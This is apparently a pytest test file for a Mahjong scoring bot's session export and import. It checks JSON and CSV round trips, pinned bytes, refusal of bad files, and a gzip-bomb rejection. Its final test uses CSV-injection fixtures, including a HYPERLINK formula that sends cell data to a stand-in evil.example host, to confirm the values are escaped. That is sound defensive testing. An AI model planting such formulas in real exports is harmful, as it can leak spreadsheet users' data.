"""Export → import round trip of the file formats (the chat commands are tested end to end)."""

from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys

import pytest

from bot.view.export import (
    CsvWriter,
    ExportedHand,
    ImportError_,
    SessionExport,
    parse_import,
    to_csv,
    to_json,
)
from scoring import get_variant, score

PLAYERS = ["Alice", "<b>&Bob", "卡罗", "Dan"]


def _whole(record: dict) -> dict:
    """The hand goes on to an empty wall with the three seats still in all ready."""
    won = {w["seat"] for e in record["events"] for w in e["winners"]}
    ready = {str(s): {} for s in range(4) if s not in won}
    return {**record, "events": [*record["events"], {"type": "exhausted", "ready": ready}]}


def hands() -> list[ExportedHand]:
    records = [_whole(r) for r in [
        {"variant": "luzhou", "rules": {}, "dealer": 0, "dealer_streak": 1, "round_wind": 0,
         "events": [{"type": "win", "by": "self_draw", "winners": [{"seat": 1, "pure": True}]}]},
        {"variant": "luzhou", "rules": {}, "dealer": 1, "dealer_streak": 1, "round_wind": 0,
         "events": [{"type": "win", "by": "discard", "from": 3,
                     "winners": [{"seat": 2, "form": "all_pungs"}]}]},
        {"variant": "luzhou", "rules": {}, "dealer": 2, "dealer_streak": 1, "round_wind": 0,
         "events": [{"type": "win", "by": "self_draw", "winners": [{"seat": 0, "quads": 2}]}]},
    ]]
    return [ExportedHand(i + 1, r, score(r), voided=(i == 2), void_reason="typo" if i == 2
                         else None) for i, r in enumerate(records)]


def test_json_round_trip_gives_identical_totals() -> None:
    original = hands()
    doc = to_json("luzhou", {"cap": 40}, 50, PLAYERS, original)
    back = parse_import(json.dumps(doc, ensure_ascii=False).encode())
    assert back.players == tuple(PLAYERS) and back.stake_cents == 50
    # the imported session keeps every rule's value, defaults filled in
    assert back.rules["cap"] == 40 and back.rules["cap_applies"] == "value"
    assert set(back.rules) == set(get_variant("luzhou").Rules.model_fields)

    def totals(hs: list[ExportedHand] | tuple[ExportedHand, ...]) -> list[int]:
        return [sum(h.outcome.deltas[s] for h in hs if not h.voided) for s in range(4)]

    assert totals(back.hands) == totals(original) == [-10, 30, -5, -15]
    assert [h.voided for h in back.hands] == [False, False, True]


def test_each_exported_record_scores_through_the_command_line() -> None:
    doc = to_json("luzhou", {}, 0, PLAYERS, hands())
    for item in doc["hands"]:
        proc = subprocess.run([sys.executable, "-m", "scoring", "score"],
                              input=json.dumps(item["record"]), capture_output=True, text=True,
                              check=False)
        assert proc.returncode == 0
        assert json.loads(proc.stdout)["deltas"] == score(item["record"]).to_dict()["deltas"]


def test_csv_has_one_row_per_hand_and_seat_with_running_totals() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(PLAYERS, hands(), 50))))
    assert len(rows) == 12
    last = {r["player"]: r for r in rows if r["hand"] == "3"}
    assert last["<b>&Bob"]["total_points"] == "30" and last["<b>&Bob"]["money_cents"] == "1500"
    assert last["Alice"]["points"] == "0" and last["Alice"]["voided"] == "1"


@pytest.mark.parametrize(("payload", "reason"), [
    (b"\xff", "not a JSON"),
    (b"[]", "not a Mahjong Ledger export"),
    (json.dumps({"format": "mjledger-session/1", "variant": "luzhou", "players": ["a"]}).encode(),
     "players"),
    (json.dumps({"format": "mjledger-session/1", "variant": "luzhou", "players": list("abcd"),
                 "hands": [{"record": {"variant": "luzhou", "events": [
                     {"type": "win", "by": "discard", "from": 1, "winners": [{"seat": 0}]}]}}]}
                ).encode(), "hand 1: events[0].winners[0]"),
    (json.dumps({"format": "mjledger-session/1", "variant": "mahjong", "players": list("abcd")}
                ).encode(), "unknown variant 'mahjong'"),
])
def test_bad_files_are_refused_with_the_reason(payload: bytes, reason: str) -> None:
    with pytest.raises(ImportError_, match=reason.replace("[", r"\[").replace("]", r"\]")):
        parse_import(payload)


def test_streamed_files_in_batches_match_the_whole_documents(tmp_path) -> None:
    """/export writes a batch of hands at a time: the same CSV rows (the JSON document built
    piece by piece is checked against to_json below)."""
    all_hands = hands()
    with (tmp_path / "x.csv").open("w", newline="") as c:
        as_csv = CsvWriter(c, PLAYERS, 50)
        for batch in (all_hands[:2], all_hands[2:]):
            as_csv.write(batch)
    assert (tmp_path / "x.csv").read_bytes().decode() == to_csv(PLAYERS, all_hands, 50)


def test_an_import_with_rules_scoring_refuses_says_which() -> None:
    doc = to_json("luzhou", {"cap_applies": "sometimes"}, 0, PLAYERS, [])
    with pytest.raises(ImportError_) as exc:
        parse_import(json.dumps(doc).encode())
    assert exc.value.msgid == "the session's rules: {reason}"
    assert exc.value.scoring is not None and exc.value.scoring.field == "rules.cap_applies"


def many(n: int) -> list[ExportedHand]:
    out = []
    for i in range(n):
        winner = i % 4
        record = {"variant": "luzhou", "dealer": winner, "dealer_streak": 1, "round_wind": 0,
                  "events": [{"type": "win", "by": "self_draw", "winners": [{"seat": winner}]},
                             {"type": "exhausted", "ready": {str(s): {} for s in range(4) if s != winner}}]}
        voided = i % 7 == 3
        out.append(ExportedHand(i + 1, record, score(record), voided,
                                "typo" if voided else None))
    return out


def exported(hands: list[ExportedHand], pieces: list[tuple[int, int]],
             limit: int | None = None) -> tuple[tuple[str, bytes], tuple[str, bytes]]:
    export = SessionExport("luzhou", {}, 25, PLAYERS)
    for start, end in pieces:
        export.write(hands[start:end])
    return export.files("x") if limit is None else export.files("x", limit)


@pytest.mark.parametrize("limit", [None, 10])
def test_written_in_pieces_the_files_are_the_whole_export(limit: int | None) -> None:
    hands = many(40)
    (csv_name, csv_data), (json_name, json_data) = exported(
        hands, [(0, 1), (1, 13), (13, 14), (14, 40)], limit)
    assert (csv_name, json_name) == (("x.csv", "x.json") if limit is None
                                     else ("x.csv.gz", "x.json.gz"))
    if limit is not None:  # over the limit: gzipped, the same bytes inside
        csv_data, json_data = gzip.decompress(csv_data), gzip.decompress(json_data)
    assert csv_data == ("\ufeff" + to_csv(PLAYERS, hands, 25)).encode()
    assert json.loads(json_data) == to_json("luzhou", {}, 25, PLAYERS, hands)
    back = parse_import(json_data)  # /import reads what /export writes
    assert [(h.seq, h.voided, h.void_reason, h.record) for h in back.hands] == \
        [(h.seq, h.voided, h.void_reason, h.record) for h in hands]
    assert back.players == tuple(PLAYERS) and back.stake_cents == 25


def test_the_files_bytes_are_pinned() -> None:
    """The layout /export has always sent (a BOM and CRLF rows; the JSON header on the first
    line, one hand a line): the same session gives the same bytes."""
    (_, csv_data), (_, json_data) = exported([], [])
    assert csv_data == ("\ufeffhand,seat,wind,player,points,total_points,money_cents,voided,"
                        "dealer\r\n").encode()
    assert json_data == ('{"format": "mjledger-session/1", "variant": "luzhou", "rules": {}, '
                         '"stake_cents": 25, "players": ["Alice", "<b>&Bob", "卡罗", "Dan"], '
                         '"hands": [\n\n]}\n').encode()
    hands = many(4)
    (_, csv_data), (_, json_data) = exported(hands, [(0, 3), (3, 4)])
    lines = json_data.decode().split("\n")
    assert lines[0].endswith('"players": ["Alice", "<b>&Bob", "卡罗", "Dan"], "hands": [')
    assert lines[1:] == [json.dumps({"seq": h.seq, "voided": h.voided, "void_reason": h.void_reason,
                                     "record": h.record}, ensure_ascii=False) + ","
                         for h in hands[:3]] + [
        '{"seq": 4, "voided": true, "void_reason": "typo", "record": ' +
        json.dumps(hands[3].record, ensure_ascii=False) + "}", "]}", ""]
    assert csv_data.decode("utf-8-sig").split("\r\n")[13:17] == [
        "4,0,East,Alice,0,2,50,1,0", "4,1,South,<b>&Bob,0,2,50,1,0",
        "4,2,West,卡罗,0,2,50,1,0", "4,3,North,Dan,0,-6,-150,1,1"]  # voided: counts nothing


def test_import_reads_a_gzipped_export_and_refuses_a_gzip_bomb() -> None:
    (_, json_gz) = exported(many(5), [(0, 5)], limit=10)[1]
    assert len(parse_import(json_gz).hands) == 5
    bomb = gzip.compress(b" " * 5_000_000)
    with pytest.raises(ImportError_, match="larger than"):
        parse_import(bomb)
    with pytest.raises(ImportError_, match="not a JSON file"):
        parse_import(b"\x1f\x8b not really gzip")


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_csv_cells_that_start_like_a_formula_stay_text_and_the_json_stays_exact() -> None:
    """OWASP's CSV injection: a name starting with =, +, -, @, tab or CR gets a leading
    apostrophe in the CSV, so a spreadsheet shows it and runs nothing; numbers (negative ones
    too) stay numbers; the JSON keeps each name exactly, and /import reads it back so."""
    rows = list(csv.DictReader(io.StringIO(to_csv(FORMULAS, hands(), 50))))
    assert [r["player"] for r in rows[:4]] == ["'" + name for name in FORMULAS]
    assert rows[0]["points"].lstrip("-").isdigit() and int(rows[0]["points"]) < 0  # -5, a number
    from bot.view.export import csv_text
    assert [csv_text(x) for x in ("\tTab", "\rCR", "Bob", "a=b", "卡罗")] == [
        "'\tTab", "'\rCR", "Bob", "a=b", "卡罗"]
    doc = to_json("luzhou", {}, 50, FORMULAS, hands())
    back = parse_import(json.dumps(doc, ensure_ascii=False).encode())
    assert back.players == tuple(FORMULAS)
